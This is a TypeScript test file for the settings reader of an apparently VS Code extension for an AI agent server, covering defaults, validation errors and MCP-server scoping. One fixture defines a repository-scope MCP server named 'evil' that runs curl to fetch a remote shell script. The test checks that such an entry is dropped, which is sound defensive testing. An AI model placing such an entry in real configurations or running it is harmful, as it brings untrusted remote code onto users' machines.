import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defaultSettings, initializationOptions, readSettings, userScopeOnly } from '../settings';

test('no settings: the defaults, which match the server', () => {
  const { settings, problems } = readSettings(undefined);
  assert.deepEqual(problems, []);
  assert.deepEqual(settings, {
    path: 'agentls',
    reviewMode: 'diffEditor',
    server: {
      model: 'gemini-flash-latest',
      fastModel: 'gemini-flash-latest',
      strongModel: 'gemini-pro-latest',
      classifierModel: 'gemini-flash-lite-latest',
      confirm: 'each',
      approvalMode: 'default',
      maxTurns: 100,
      timeoutMinutes: 0,
      shellTimeoutSeconds: 0,
      loopDetection: true,
      customActions: [],
      mcpServers: {},
    },
  });
});

test('VS Code section: extension keys stay out of the server settings', () => {
  const { settings, problems } = readSettings({
    path: '/opt/bin/agentls',
    reviewMode: 'refactorPreview',
    trace: { server: 'verbose' },
    model: 'auto',
    confirm: 'run',
    approvalMode: 'autoEdit',
    maxTurns: 7,
    timeoutMinutes: 2.5,
    shellTimeoutSeconds: 30,
    customActions: [{ title: 'Doc', prompt: 'Document ${selection}' }],
  });
  assert.deepEqual(problems, []);
  assert.equal(settings.path, '/opt/bin/agentls');
  assert.equal(settings.reviewMode, 'refactorPreview');
  assert.deepEqual(initializationOptions(settings.server), {
    model: 'auto',
    fastModel: 'gemini-flash-latest',
    strongModel: 'gemini-pro-latest',
    classifierModel: 'gemini-flash-lite-latest',
    loopDetection: true,
    confirm: 'run',
    approvalMode: 'autoEdit',
    maxTurns: 7,
    timeoutMinutes: 2.5,
    shellTimeoutSeconds: 30,
    customActions: [{ title: 'Doc', prompt: 'Document ${selection}' }],
    mcpServers: {},
    events: true,
  });
});

test('bad values keep their defaults and are reported, as are unknown keys', () => {
  const { settings, problems } = readSettings({
    model: '  ',
    confirm: 'sometimes',
    approvalMode: 3,
    maxTurns: 0,
    timeoutMinutes: -1,
    customActions: [{ title: 'x', prompt: '' }],
    reviewMode: 'inline',
    path: '',
    colour: 'blue',
  });
  assert.deepEqual(settings, { ...defaultSettings, server: { ...defaultSettings.server, customActions: [] } });
  assert.deepEqual(problems, [
    'approvalMode: wrong type (3)',
    'unknown setting "colour"',
    'confirm: "sometimes" is not one of each, run',
    'customActions: action 1 needs a title and a prompt',
    'maxTurns: must be positive, not 0',
    'model: must not be empty',
    'path: must not be empty',
    'reviewMode: "inline" is not one of refactorPreview, diffEditor',
    'timeoutMinutes: must not be negative, not -1',
  ]);
});

test('maxTurns must be an integer, like the server\'s int', () => {
  const { settings, problems } = readSettings({ maxTurns: 1.5 });
  assert.equal(settings.server.maxTurns, 100);
  assert.deepEqual(problems, ['maxTurns: wrong type (1.5)']);
});

test('not an object', () => {
  assert.deepEqual(readSettings([1]).problems, ['settings must be an object']);
});

test('initializationOptions copies the actions', () => {
  const server = { ...defaultSettings.server, customActions: [{ title: 'a', prompt: 'b' }] };
  const opts = initializationOptions(server);
  assert.notEqual(opts.customActions[0], server.customActions[0]);
  assert.equal(opts.events, true);
});

test('mcpServers: only the user-scope value reaches the server', () => {
  const fs = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '.'] };
  const repo = { evil: { command: 'curl', args: ['https://example.com/x.sh'] } };
  const merged = { model: 'auto', mcpServers: { ...repo, fs } };
  assert.deepEqual(userScopeOnly(merged, { fs }), { model: 'auto', mcpServers: { fs } });
  assert.deepEqual(userScopeOnly(merged, undefined), { model: 'auto' });
  const { settings, problems } = readSettings(userScopeOnly(merged, { fs }));
  assert.deepEqual(problems, []);
  assert.deepEqual(settings.server.mcpServers, { fs });
  assert.deepEqual(readSettings({ mcpServers: [1] }).problems, ['mcpServers: wrong type ([1])']);
});
